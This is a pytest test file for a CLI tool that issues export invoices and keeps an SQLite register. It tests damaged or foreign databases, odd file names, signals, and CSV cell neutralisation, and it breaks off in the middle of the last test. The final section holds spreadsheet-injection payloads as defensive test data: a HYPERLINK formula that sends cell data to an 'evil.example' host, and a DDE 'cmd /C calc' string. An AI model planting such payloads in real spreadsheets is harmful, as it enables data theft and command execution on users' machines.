"""Hostile input and faults around ``batch``, ``generate --register``, the register and
``demo``: each case is the smallest input that showed the fault, and asserts the exit status,
the message, and that nothing else was written.

1. One bad file never spoils a batch (a file name that is not UTF-8, a bug in one shipment).
2. Exit 3 is only for bugs (damaged registers, ``demo`` where it cannot write, long names).
3. Nothing recorded half (``generate --register`` checks the register first, writes and
   records in one step; other databases are never taken over; read-only registers listed).
4. Nothing silently lost or confused (one invoice number, two shipments; schema 1 registers
   upgraded; SIGTERM; named pipes; the user's own summary.csv).
5. CSV cells a spreadsheet would run are neutralised; output files follow the umask.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from conftest import (
    AS_OF,
    BASE_REGISTRATION,
    REX,
    item_with,
    make_workbook,
    run_cli,
    shipment_with,
    write_registration,
)

from rexdecl.output import csv_cell
from rexdecl.register import APPLICATION_ID, SCHEMA_VERSION, Register

OUTPUTS = ("INV-2026-001_invoice.pdf", "INV-2026-001_packing-list.pdf")


# --- helpers ---------------------------------------------------------------------------


def tree(root: Path) -> dict[str, str]:
    """Every file under ``root`` with a hash of its bytes (what "nothing else was written" compares)."""
    if not root.exists():
        return {}
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[path.relative_to(root).as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
        elif path.is_dir():
            found[path.relative_to(root).as_posix() + "/"] = ""
    return found


def handled(result: Result, code: int) -> str:
    """The run ended with ``code``, with no traceback and no internal error."""
    output = result.output
    assert "Traceback" not in output, output
    assert "internal error" not in output, output
    assert result.exit_code == code, f"exit {result.exit_code}, expected {code}:\n{output}"
    return output


def generate(workbook: Path, out: Path, *extra: Any) -> Result:
    return run_cli(["generate", workbook, "--out", out, "--as-of", AS_OF.isoformat(), *extra])


def batch(*args: Any) -> Result:
    words = [str(a) for a in args]
    return run_cli(["batch", *words, "--as-of", AS_OF.isoformat()])


def folder_of(tmp_path: Path, *specs: tuple[str, dict[str, Any]]) -> Path:
    """Workbooks ``name -> shipment changes`` in tmp_path/in, the registration beside them."""
    folder = tmp_path / "in"
    for name, changes in specs:
        make_workbook(folder, shipment_with(**changes), name=name)
    write_registration(folder / "registration.toml")
    return folder


def summary(out: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((out / "summary.csv").read_text(encoding="utf-8"))))


def rows(database: Path, query: str) -> list[tuple[Any, ...]]:
    db = sqlite3.connect(database)
    try:
        return db.execute(query).fetchall()
    finally:
        db.close()


@pytest.fixture
def good(tmp_path: Path) -> Path:
    """The baseline workbook with registration.toml beside it."""
    workbook = make_workbook(tmp_path / "in")
    write_registration(tmp_path / "in" / "registration.toml")
    return workbook


@contextmanager
def immutable(*paths: Path) -> Iterator[None]:
    """Make ``paths`` unwritable. As root, permissions do not stop writes, so the files are
    made immutable (chattr +i) instead; skipped when that is not possible here."""
    if os.geteuid() != 0:
        modes = {path: path.stat().st_mode for path in paths}
        for path in paths:
            path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield
        finally:
            for path, mode in modes.items():
                path.chmod(mode)
        return
    chattr = shutil.which("chattr")
    if chattr is None or subprocess.run([chattr, "+i", *map(str, paths)], capture_output=True).returncode:
        pytest.skip("running as root, where chmod does not stop writes, and chattr +i is not available here")
    try:
        yield
    finally:
        subprocess.run([chattr, "-i", *map(str, paths)], check=True)


# --- 1. one bad file never spoils a batch ----------------------------------------------


def cp1252_name(folder: Path, workbook: Path) -> Path:
    """``workbook`` renamed ``café.xlsx`` as a zip made on Windows (CP1252) leaves it: the
    name's bytes are not UTF-8. Skipped where the file system refuses such names."""
    target = Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9.xlsx"))
    try:
        workbook.rename(target)
    except OSError as error:
        pytest.skip(f"this file system refuses a name that is not UTF-8 ({error})")
    return target


def test_a_workbook_whose_name_is_not_utf8_is_processed_and_named_by_its_bytes(tmp_path: Path) -> None:
    folder = folder_of(tmp_path, ("good.xlsx", {}), ("bad.xlsx", {"invoice_number": "INV-2026-002"}))
    cp1252_name(folder, folder / "bad.xlsx")
    out = tmp_path / "out"

    output = handled(batch(folder, "--out", out, "--jobs", "1"), 0)

    shown = f"{folder}/caf\\xe9.xlsx"
    assert f"ok  {shown} -> {out}/caf-/INV-2026-002_invoice.pdf, {out}/caf-/INV-2026-002_packing-list.pdf" in output
    assert [(r["source"], r["status"]) for r in summary(out)] == [(shown, "ok"), (f"{folder}/good.xlsx", "ok")]
    data = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert data["shipments"][0]["source"] == shown
    assert rows(out / "register.sqlite", "SELECT source FROM statements ORDER BY source") == [
        (shown,),
        (f"{folder}/good.xlsx",),
    ]


def test_generate_names_a_workbook_whose_name_is_not_utf8(tmp_path: Path, good: Path) -> None:
    workbook = cp1252_name(good.parent, good)
    out = tmp_path / "out"
    output = handled(generate(workbook, out, "--register", out / "register.sqlite"), 0)
    assert f"wrote {out / OUTPUTS[0]}" in output
    assert rows(out / "register.sqlite", "SELECT source, input FROM statements") == [
        (f"{good.parent}/caf\\xe9.xlsx", "../in/caf\\xe9.xlsx")
    ]


def test_a_bug_in_one_shipment_is_a_row_and_no_traceback_is_printed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import rexdecl.register.records

    real = rexdecl.register.records.statement_record

    def broken(checked: Any, **kwargs: Any) -> Any:
        if checked.input.shipment.invoice_number == "INV-2026-002":
            raise RuntimeError("boom")
        return real(checked, **kwargs)

    monkeypatch.setattr(rexdecl.register.records, "statement_record", broken)
    folder = folder_of(tmp_path, ("a.xlsx", {}), ("b.xlsx", {"invoice_number": "INV-2026-002"}))
    out = tmp_path / "out"

    result = batch(folder, "--out", out, "--jobs", "1")

    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert f"errors {folder / 'b.xlsx'}: batch:internal-error\n    RuntimeError: boom" in result.output
    assert [(r["status"], r["codes"], r["files"]) for r in summary(out)] == [
        ("ok", "", "a/INV-2026-001_invoice.pdf;a/INV-2026-001_packing-list.pdf"),
        ("errors", "batch:internal-error", ""),
    ]
    assert not (out / "b").exists() or list((out / "b").iterdir()) == []  # nothing half-written

    # --traceback (for developers) shows where the bug is.
    result = run_cli(["--traceback", "batch", folder, "--out", out, "--jobs", "1", "--as-of", AS_OF.isoformat()])
    assert result.exit_code == 1
    assert "Traceback (most recent call last)" in result.output and "RuntimeError: boom" in result.output


# --- 2. exit 3 is only for bugs --------------------------------------------------------


def make_register(path: Path, *statements: str) -> Path:
    """A register made by rexdecl, then changed by ``statements`` (SQL) the way a fault would."""
    Register(path).close()
    db = sqlite3.connect(path)
    try:
        for statement in statements:
            db.execute(statement)
        db.commit()
    finally:
        db.close()
    return path


def corrupt_pages(path: Path) -> Path:
    """A register whose data pages were overwritten (a disk fault): the first pages (the
    header and the schema) are intact, so it opens, and fails on its data."""
    Register(path).close()
    db = sqlite3.connect(path)
    db.execute("PRAGMA journal_mode = DELETE")
    db.executemany(
        "INSERT INTO pending_outputs (path, run_id, claimed_at) VALUES (?, 'r', 'now')",
        [(f"folder/{i:05d}_invoice.pdf" * 8,) for i in range(600)],
    )
    db.commit()
    db.close()
    data = bytearray(path.read_bytes())
    page = 4096
    assert len(data) > 12 * page
    data[8 * page : 10 * page] = b"\xab" * (2 * page)
    path.write_bytes(bytes(data))
    return path


DAMAGED = {
    "schema version not a number": (
        lambda path: make_register(path, "UPDATE meta SET value = 'two' WHERE key = 'schema_version'"),
        "the register is damaged (its schema version is 'two', not a whole number from 1)",
    ),
    "a table missing": (
        lambda path: make_register(path, "DROP TABLE lines"),
        "the register is damaged (the table lines is missing)",
    ),
    "corrupt pages": (corrupt_pages, "the register is damaged (*** in database main *** Page "),
}


@pytest.mark.parametrize("case", list(DAMAGED))
def test_a_damaged_register_is_exit_2_for_every_command(tmp_path: Path, good: Path, case: str) -> None:
    build, message = DAMAGED[case]
    register = build(tmp_path / "reg" / "register.sqlite")
    before = tree(tmp_path / "reg")

    output = handled(generate(good, tmp_path / "docs", "--register", register), 2)
    assert f"rexdecl: {register}: {message}" in output
    assert "nothing was written" in output
    assert not (tmp_path / "docs").exists()

    output = handled(batch(good.parent, "--out", tmp_path / "out", "--register", register), 2)
    assert f"rexdecl: {register}: {message}" in output
    assert not (tmp_path / "out").exists()
    assert tree(tmp_path / "reg") == before

    if case != "corrupt pages":  # listing reads only the statements, which are intact there
        assert f"rexdecl: {register}: {message}" in handled(run_cli(["register", "list", "--register", register]), 2)
    assert tree(tmp_path / "reg") == before


def test_demo_onto_a_file_is_a_usage_error(tmp_path: Path) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("mine", encoding="utf-8")
    for folder in (target, target / "demo"):
        output = handled(run_cli(["demo", folder]), 2)
        assert f"rexdecl: {target}" in output
    assert "rexdecl: " + str(target) + " is a file, not a folder; expected a folder for the demo files (FOLDER)" in (
        run_cli(["demo", target]).output
    )
    assert tree(tmp_path) == {"notes.txt": hashlib.sha256(b"mine").hexdigest()}


def test_demo_on_a_read_only_disk_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """EROFS, as a read-only file system answers the first copy (made here by fault injection:
    mounting one needs privileges a test does not have)."""
    import rexdecl.demo

    def copyfile(source: Any, target: Any) -> None:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(target))

    monkeypatch.setattr(rexdecl.demo.shutil, "copyfile", copyfile)
    folder = tmp_path / "demo"
    output = handled(run_cli(["demo", folder]), 2)
    assert f"the demo files cannot be written ({os.strerror(errno.EROFS)}); name another folder" in output
    assert tree(folder) == {}


def test_demo_in_a_folder_that_cannot_be_written_is_exit_2(tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    with immutable(locked):
        output = handled(run_cli(["demo", locked / "demo"]), 2)
    assert f"rexdecl: {locked / 'demo'}: the demo files cannot be written" in output
    assert tree(locked) == {}


LONG = "x" * 300


@pytest.mark.parametrize("command", ["generate", "batch", "demo", "register"])
def test_an_out_name_of_300_characters_is_a_usage_error(tmp_path: Path, good: Path, command: str) -> None:
    target = tmp_path / LONG
    before = tree(tmp_path)
    if command == "generate":
        result = generate(good, target)
    elif command == "batch":
        result = batch(good.parent, "--out", target)
    elif command == "demo":
        result = run_cli(["demo", target])
    else:
        result = run_cli(["generate", good, "--out", tmp_path / "docs", "--register", target / "register.sqlite"])
    output = handled(result, 2)
    named = f"{target}/register.sqlite" if command == "register" else str(target)
    assert f"rexdecl: {named}: a name in this path is too long (File name too long); expected at most 255" in output
    assert tree(tmp_path) == before


# --- 3. nothing recorded half ----------------------------------------------------------


def foreign_database(path: Path) -> Path:
    """Another application's SQLite database, with a meta table of its own."""
    path.parent.mkdir(parents=True, exist_ok=True)
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE meta (key TEXT, value TEXT)")
    db.execute("INSERT INTO meta VALUES ('schema_version', '1')")
    db.execute("CREATE TABLE contacts (name TEXT)")
    db.commit()
    db.close()
    return path


REFUSED = {
    "corrupt": (corrupt_pages, "the register is damaged"),
    "foreign": (
        foreign_database,
        "not a rexdecl register (an SQLite database with the tables contacts, meta); rexdecl never writes into "
        "another application's database",
    ),
    "future schema": (
        lambda path: make_register(path, "UPDATE meta SET value = '3' WHERE key = 'schema_version'"),
        "the register was written by a newer rexdecl (schema 3); expected schema 2 or older: update rexdecl",
    ),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_generate_checks_the_register_before_writing_documents(tmp_path: Path, good: Path, case: str) -> None:
    build, message = REFUSED[case]
    register = build(tmp_path / "reg" / "register.sqlite")
    before = tree(tmp_path / "reg")
    out = tmp_path / "docs"

    output = handled(generate(good, out, "--register", register), 2)

    assert f"rexdecl: {register}: {message}" in output
    assert tree(out) == {} and tree(tmp_path / "reg") == before
    # Nothing was left behind, so the run is not refused later because "the outputs exist".
    handled(generate(good, out, "--register", tmp_path / "new" / "register.sqlite"), 0)
    assert sorted(tree(out)) == sorted(OUTPUTS)


def test_generate_with_a_locked_register_waits_then_writes_nothing(
    tmp_path: Path, good: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import rexdecl.register.database

    monkeypatch.setattr(rexdecl.register.database, "BUSY_TIMEOUT_SECONDS", 0.3)
    register = make_register(tmp_path / "reg" / "register.sqlite")
    holder = sqlite3.connect(register, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # another rexdecl in the middle of a write
    try:
        output = handled(generate(good, tmp_path / "docs", "--register", register), 2)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert f"rexdecl: {register}: the register is busy: another process has held it for more than 0.3 seconds" in output
    assert "hint: Wait for the other rexdecl to finish, then run the command again." in output
    assert tree(tmp_path / "docs") == {}
    assert rows(register, "SELECT COUNT(*) FROM statements") == [(0,)]


def test_generate_with_a_read_only_register_writes_nothing_and_the_register_is_still_listed(
    tmp_path: Path, good: Path
) -> None:
    register = tmp_path / "reg" / "register.sqlite"
    handled(generate(good, tmp_path / "first", "--register", register), 0)
    before = tree(tmp_path / "reg")
    out = tmp_path / "docs"
    with immutable(register, register.parent):
        output = handled(generate(good, out, "--register", register), 2)
        assert f"rexdecl: {register}: the register cannot be written: the file or its folder is read-only" in output
        listed = handled(run_cli(["register", "list", "--register", register]), 0)
        exported = handled(run_cli(["register", "export", "--register", register]), 0)
    assert tree(out) == {} and tree(tmp_path / "reg") == before
    assert listed.splitlines()[2].split()[0] == "INV-2026-001"
    assert exported.splitlines()[1].startswith("INV-2026-001,2026-11-20,")


def test_a_register_that_fails_while_recording_takes_the_new_documents_back(tmp_path: Path, good: Path) -> None:
    """The register accepts the transaction, then fails on the record (a trigger stands in
    for a disk fault there): the documents just written are removed; existing ones replaced
    with --force stay, complete."""
    register = make_register(
        tmp_path / "reg" / "register.sqlite",
        "CREATE TRIGGER fault BEFORE INSERT ON documents BEGIN SELECT RAISE(ABORT, 'disk I/O error'); END",
    )
    out = tmp_path / "docs"
    output = handled(generate(good, out, "--register", register), 2)
    assert f"rexdecl: {register}: the register cannot be used (disk I/O error)" in output
    assert tree(out) == {}
    assert rows(register, "SELECT COUNT(*) FROM statements") == [(0,)]

    handled(generate(good, out), 0)
    written = tree(out)
    handled(generate(good, out, "--register", register, "--force"), 2)
    assert tree(out) == written  # replaced by the same bytes; nothing removed that was there
    assert rows(register, "SELECT COUNT(*) FROM statements") == [(0,)]


def test_a_register_that_fails_while_recording_a_batch_shipment_takes_its_documents_back(tmp_path: Path) -> None:
    folder = folder_of(tmp_path, ("a.xlsx", {}))
    out = tmp_path / "out"
    make_register(
        out / "register.sqlite",
        "CREATE TRIGGER fault BEFORE INSERT ON documents BEGIN SELECT RAISE(ABORT, 'disk I/O error'); END",
    )
    result = batch(folder, "--out", out, "--jobs", "1")
    output = handled(result, 1)
    assert (
        f"errors {folder / 'a.xlsx'}: batch:register-failed\n"
        f"    {out / 'register.sqlite'}: the register cannot be used (disk I/O error)\n"
        "    the documents were not recorded, so the new ones were removed again; run the batch again"
    ) in output
    assert [(r["status"], r["codes"], r["files"]) for r in summary(out)] == [("errors", "batch:register-failed", "")]
    assert sorted(tree(out)) == ["a/", "register.sqlite", "summary.csv", "summary.json"]
    assert rows(out / "register.sqlite", "SELECT COUNT(*) FROM statements") == [(0,)]
    assert rows(out / "register.sqlite", "SELECT COUNT(*) FROM pending_outputs") == [(0,)]


def test_an_empty_file_is_not_listed_as_a_register(tmp_path: Path) -> None:
    empty = tmp_path / "register.sqlite"
    empty.write_bytes(b"")
    output = handled(run_cli(["register", "list", "--register", empty]), 2)
    assert f"rexdecl: {empty}: not a rexdecl register (an empty file)" in output
    assert empty.read_bytes() == b""


@pytest.mark.parametrize("command", ["generate", "batch", "list"])
def test_another_applications_database_is_never_taken_over(tmp_path: Path, good: Path, command: str) -> None:
    database = foreign_database(tmp_path / "app" / "data.sqlite")
    before = tree(tmp_path / "app")
    if command == "generate":
        result = generate(good, tmp_path / "docs", "--register", database)
    elif command == "batch":
        result = batch(good.parent, "--out", tmp_path / "out", "--register", database)
    else:
        result = run_cli(["register", "list", "--register", database])
    assert "not a rexdecl register" in handled(result, 2)
    assert tree(tmp_path / "app") == before
    assert not (tmp_path / "docs").exists() and not (tmp_path / "out").exists()


def test_a_new_register_carries_rexdecls_application_id(tmp_path: Path) -> None:
    Register(tmp_path / "register.sqlite").close()
    assert rows(tmp_path / "register.sqlite", "PRAGMA application_id") == [(APPLICATION_ID,)]
    assert rows(tmp_path / "register.sqlite", "SELECT value FROM meta") == [(str(SCHEMA_VERSION),)]


@pytest.mark.parametrize("name", ["register.sqlite-journal", "register.sqlite-wal", "REGISTER.SQLITE-SHM"])
def test_a_workbook_named_like_the_registers_files_cannot_break_it(tmp_path: Path, name: str) -> None:
    folder = folder_of(tmp_path, ("a.xlsx", {}), (f"{name}.xlsx", {"invoice_number": "INV-2026-002"}))
    out = tmp_path / "out"
    output = handled(batch(folder, "--out", out), 2)
    assert f"its output folder would be named {name}, which batch uses for its own files; rename the workbook" in output
    assert not out.exists()


def test_a_workbook_named_like_a_register_given_with_register_is_refused(tmp_path: Path) -> None:
    folder = folder_of(tmp_path, ("ledger.db-journal.xlsx", {}))
    out = tmp_path / "out"
    output = handled(batch(folder, "--out", out, "--register", out / "ledger.db"), 2)
    assert "its output folder would be named ledger.db-journal, which batch uses for its own files" in output
    # The same name is harmless when the register is elsewhere.
    handled(batch(folder, "--out", out, "--register", tmp_path / "ledger.db"), 0)


# --- 4. nothing silently lost or confused ----------------------------------------------


OTHER_REX = "IDREXTEST0000000002"


def test_two_shipments_with_one_invoice_number_are_both_kept(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    make_workbook(folder, name="a.xlsx")  # INV-2026-001 of PT Jati Contoh
    make_workbook(folder, shipment_with(consignee_name="Zweiter Kunde GmbH"), name="b.xlsx")  # the same number
    other = {**BASE_REGISTRATION, "rex_number": OTHER_REX, "name": "PT Rotan Lain"}
    make_workbook(
        folder, shipment_with(exporter_rex=OTHER_REX, exporter_name="PT Rotan Lain"), name="c.xlsx"
    )  # another exporter, the same number
    write_registration(folder / "registration.toml", BASE_REGISTRATION, other)
    out = tmp_path / "out"

    handled(batch(folder, "--out", out, "--jobs", "2"), 0)

    listed = handled(run_cli(["register", "list", "--register", out / "register.sqlite"]), 0).splitlines()[2:]
    assert sorted((line.split()[0], line.split()[-1]) for line in listed) == [
        ("INV-2026-001", "a.xlsx"),
        ("INV-2026-001", "b.xlsx"),
        ("INV-2026-001", "c.xlsx"),
    ]
    exported = list(
        csv.DictReader(io.StringIO(run_cli(["register", "export", "--register", out / "register.sqlite"]).output))
    )
    assert sorted((r["rex_number"], r["consignee_name"]) for r in exported) == [
        (REX, "Beispiel Moebel GmbH"),
        (REX, "Zweiter Kunde GmbH"),
        (OTHER_REX, "Beispiel Moebel GmbH"),
    ]

    # b.xlsx issued again: a new version of b's statement only.
    make_workbook(folder, shipment_with(consignee_name="Zweiter Kunde GmbH", incoterm="FCA"), name="b.xlsx")
    handled(batch(folder, "--out", out, "--jobs", "1"), 0)
    assert sorted(rows(out / "register.sqlite", "SELECT input, version, superseded_by IS NULL FROM statements")) == [
        ("../in/a.xlsx", 1, 1),
        ("../in/b.xlsx", 1, 0),
        ("../in/b.xlsx", 2, 1),
        ("../in/c.xlsx", 1, 1),
    ]


# The register as rexdecl wrote it with schema 1 (before the key included the workbook).
SCHEMA_1 = (
    "CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT NOT NULL)",
    """CREATE TABLE statements (id INTEGER PRIMARY KEY, statement_key TEXT NOT NULL,
    version INTEGER NOT NULL, superseded_by INTEGER REFERENCES statements(id), superseded_at TEXT,
    invoice_number TEXT NOT NULL, invoice_date TEXT, exporter_name TEXT, exporter_address TEXT,
    exporter_country TEXT, rex_number TEXT, consignee_name TEXT, consignee_address TEXT,
    consignee_country TEXT, destination TEXT, scheme TEXT, statement_language TEXT,
    statement_text TEXT, origin_country TEXT, eska_code TEXT, consignment_ref TEXT, currency TEXT,
    total_amount TEXT, originating_amount TEXT, eur_rate TEXT, originating_value_eur TEXT,
    total_packages TEXT, total_net_kg TEXT, total_gross_kg TEXT, warnings INTEGER NOT NULL,
    codes TEXT NOT NULL, source TEXT, source_sha256 TEXT, input_hash TEXT NOT NULL,
    rexdecl_version TEXT NOT NULL, command TEXT NOT NULL, run_id TEXT, issued_on TEXT NOT NULL,
    recorded_at TEXT NOT NULL, UNIQUE (statement_key, version))""",
    "CREATE INDEX statements_key ON statements (statement_key, superseded_by)",
    """CREATE TABLE lines (statement_id INTEGER NOT NULL REFERENCES statements(id),
    position INTEGER NOT NULL, line_no INTEGER, description TEXT, hs_code TEXT, quantity TEXT,
    unit TEXT, unit_price TEXT, amount TEXT, origin_country TEXT, criterion TEXT,
    originating INTEGER NOT NULL, origin_note TEXT, PRIMARY KEY (statement_id, position))""",
    """CREATE TABLE documents (statement_id INTEGER NOT NULL REFERENCES statements(id),
    kind TEXT NOT NULL, path TEXT NOT NULL, sha256 TEXT NOT NULL, size INTEGER NOT NULL,
    PRIMARY KEY (statement_id, path))""",
    "CREATE INDEX documents_path ON documents (path)",
    "CREATE TABLE pending_outputs (path TEXT PRIMARY KEY, run_id TEXT, claimed_at TEXT NOT NULL)",
    "INSERT INTO meta (key, value) VALUES ('schema_version', '1')",
)


def schema_1_register(path: Path, sources: list[str]) -> Path:
    """A schema-1 register holding one statement INV-2026-001 per source, in that order: the
    one key "exporter|invoice" of schema 1 made each a new version of the same statement."""
    db = sqlite3.connect(path)
    db.execute("PRAGMA journal_mode = WAL")
    for statement in SCHEMA_1:
        db.execute(statement)
    for version, source in enumerate(sources, start=1):
        db.execute(
            "INSERT INTO statements (statement_key, version, invoice_number, rex_number, exporter_name, "
            "warnings, codes, source, input_hash, rexdecl_version, command, issued_on, recorded_at, "
            "statement_text) VALUES (?, ?, 'INV-2026-001', ?, 'PT Jati Contoh', 0, '', ?, 'h', '0.1.0', "
            "'batch', '2026-11-22', ?, 'text')",
            (f"{REX}|INV-2026-001", version, REX, source, f"2026-11-2{version}T00:00:00+00:00"),
        )
        db.execute("INSERT INTO lines (statement_id, position, line_no, originating) VALUES (?, 1, 1, 1)", (version,))
        db.execute(
            "INSERT INTO documents VALUES (?, 'invoice.pdf', ?, 'sha', 1)", (version, f"d{version}/x_invoice.pdf")
        )
    for earlier in range(1, len(sources)):
        db.execute(
            "UPDATE statements SET superseded_by = ?, superseded_at = 'then' WHERE id = ?", (earlier + 1, earlier)
        )
    db.commit()
    db.close()
    return path


def test_a_schema_1_register_keeps_its_rows_and_is_upgraded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # relative sources of schema 1 are read from the current folder
    folder = tmp_path / "in"
    a = make_workbook(folder, name="a.xlsx")
    make_workbook(folder, name="b.xlsx")
    write_registration(folder / "registration.toml")
    # a.xlsx, then b.xlsx (the same invoice number: it superseded a's statement), then a.xlsx again.
    register = schema_1_register(tmp_path / "register.sqlite", [str(a), "in/b.xlsx", "in/a.xlsx"])
    listed = handled(run_cli(["register", "list", "--register", register]), 0)  # read as it is
    assert [line.split()[-1] for line in listed.splitlines()[2:]] == ["a.xlsx"]
    assert rows(register, "SELECT value FROM meta") == [("1",)]

    Register(register).close()

    assert rows(register, "SELECT value FROM meta") == [("2",)]
    assert rows(register, "PRAGMA application_id") == [(APPLICATION_ID,)]
    assert rows(register, "SELECT id, version, input, superseded_by, statement_key FROM statements ORDER BY id") == [
        (1, 1, "in/a.xlsx", 3, f"{REX}|INV-2026-001|in/a.xlsx"),
        (2, 2, "in/b.xlsx", None, f"{REX}|INV-2026-001|in/b.xlsx"),  # current again
        (3, 3, "in/a.xlsx", None, f"{REX}|INV-2026-001|in/a.xlsx"),
    ]
    assert rows(register, "SELECT COUNT(*) FROM lines") == [(3,)]
    assert rows(register, "SELECT COUNT(*) FROM documents") == [(3,)]
    assert rows(register, "PRAGMA integrity_check") == [("ok",)]

    # The same workbook issued again continues its own statement.
    handled(generate(a, tmp_path / "docs", "--register", register), 0)
    assert rows(register, "SELECT version, input FROM statements WHERE superseded_by IS NULL ORDER BY id") == [
        (2, "in/b.xlsx"),
        (4, "in/a.xlsx"),
    ]


@pytest.mark.slow
def test_sigterm_to_the_batch_process_group_is_handled_like_ctrl_c(tmp_path: Path) -> None:
    """A service manager stops a batch with SIGTERM to its whole process group, workers
    included: they finish their shipments, nothing is reported as an internal error, and the
    closing line counts what was done."""
    folder = folder_of(tmp_path, *((f"{i:02d}.xlsx", {"invoice_number": f"INV-{i:02d}"}) for i in range(12)))
    out = tmp_path / "out"
    command = [sys.executable, "-m", "rexdecl", "batch", str(folder), "--out", str(out), "--jobs", "2"]
    env = {**os.environ, "REXDECL_LANG": "en", "PYTHONUNBUFFERED": "1"}
    run = subprocess.Popen(
        [*command, "--as-of", AS_OF.isoformat()],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        start_new_session=True,
    )
    assert run.stdout is not None
    first = run.stdout.readline()
    assert first.startswith("ok  "), first
    os.killpg(run.pid, signal.SIGTERM)
    rest, stderr = run.communicate(timeout=120)
    lines = [first, *rest.splitlines()]
    assert run.returncode == 130, rest + stderr
    assert "Traceback" not in stderr and "internal error" not in rest + stderr, stderr
    done = [line for line in lines if line.startswith("ok  ")]
    assert all(line.startswith("ok  ") for line in lines if line.strip()), lines
    assert (
        f"rexdecl: interrupted: {len(done)} of 12 workbooks done ({len(done)} ok, 0 with errors, 0 unreadable, "
        f"0 skipped), {12 - len(done)} not done; no summary was written." in stderr
    ), stderr
    assert len(done) < 12
    assert rows(out / "register.sqlite", "SELECT COUNT(*) FROM statements") == [(len(done),)]
    assert not list(out.rglob("*.part")) and not (out / "summary.csv").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_in_a_batch_folder_is_a_row_and_never_waited_on(tmp_path: Path) -> None:
    folder = folder_of(tmp_path, ("a.xlsx", {}))
    os.mkfifo(folder / "pipe.xlsx")
    os.mkfifo(tmp_path / "given.xlsx")
    out = tmp_path / "out"
    command = [sys.executable, "-m", "rexdecl", "batch", str(folder), str(tmp_path / "given.xlsx")]
    command += ["--out", str(out), "--jobs", "1", "--as-of", AS_OF.isoformat()]
    # A subprocess with a timeout: a batch that waited on the pipe would hang the test run.
    run = subprocess.run(command, capture_output=True, text=True, timeout=120, env={**os.environ, "REXDECL_LANG": "en"})
    assert run.returncode == 1, run.stdout + run.stderr
    assert "Traceback" not in run.stderr
    for pipe in (folder / "pipe.xlsx", tmp_path / "given.xlsx"):
        assert (
            f"unreadable {pipe}: a named pipe (FIFO), not a file: skipped without reading it; expected an "
            ".xlsx workbook" in run.stdout
        ), run.stdout
    assert [(Path(r["source"]).name, r["status"]) for r in summary(out)] == [
        ("a.xlsx", "ok"),
        ("pipe.xlsx", "unreadable"),
        ("given.xlsx", "unreadable"),
    ]


@pytest.mark.parametrize("name", ["summary.csv", "summary.json"])
def test_the_users_own_summary_file_is_not_replaced_without_force(tmp_path: Path, good: Path, name: str) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / name).write_text("client,notes\nPT A,call back\n", encoding="utf-8")
    before = tree(out)

    output = handled(batch(good.parent, "--out", out), 2)

    assert (
        f"rexdecl: {out / name} exists and was not written by rexdecl batch; nothing was done. Move it away, "
        "choose another --out, or use --force to replace it" in output
    )
    assert tree(out) == before  # no register, no documents
    handled(batch(good.parent, "--out", out, "--force"), 0)
    assert summary(out)[0]["status"] == "ok"
    handled(batch(good.parent, "--out", out), 0)  # batch's own summary is replaced on every run


def test_a_folder_named_summary_csv_is_refused_even_with_force(tmp_path: Path, good: Path) -> None:
    out = tmp_path / "out"
    (out / "summary.csv").mkdir(parents=True)
    output = handled(batch(good.parent, "--out", out, "--force"), 2)
    assert f"rexdecl: {out / 'summary.csv'} is a folder; batch writes its summary there" in output
    assert tree(out) == {"summary.csv/": ""}


# --- 5. CSV cells and file permissions -------------------------------------------------


@pytest.mark.parametrize(
    ("value", "numeric", "expected"),
    [
        ('=HYPERLINK("http://x")', False, '\'=HYPERLINK("http://x")'),
        ("+1", False, "'+1"),
        ("-5", False, "'-5"),
        ("@SUM(A1)", False, "'@SUM(A1)"),
        ("\tcmd", False, "'\tcmd"),
        ("\rcmd", False, "'\rcmd"),
        ("PT A = B", False, "PT A = B"),
        ("", False, ""),
        ("-5", True, "-5"),
        ("-5.25", True, "-5.25"),
        ("-5e3", True, "'-5e3"),
        ("=1+1", True, "'=1+1"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, numeric: bool, expected: str) -> None:
    assert csv_cell(value, numeric) == expected


def typed_as_text(sheet: str, cells: dict[str, str]) -> Callable[[Any], None]:
    """An ``edit`` for conftest's builder: cells holding text that looks like a formula
    (typed after an apostrophe in Excel)."""

    def edit(book: Any) -> None:
        for ref, text in cells.items():
            cell = book[sheet][ref]
            cell.value = text
            cell.data_type = "s"

    return edit


def test_summary_and_eska_export_neutralise_formulas(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    folder = tmp_path / "in"
    consignee_row = list(shipment_with()).index("consignee_name") + 2
    make_workbook(
        folder,
        shipment_with(invoice_number="@INV-1"),
        [item_with(description="+cmd|' /C calc'!A0")],
        name="a.xlsx",
        edit=typed_as_text("Shipment", {f"B{consignee_row}": formula}),
    )
    write_registration(folder / "registration.toml")
    out = tmp_path / "out"
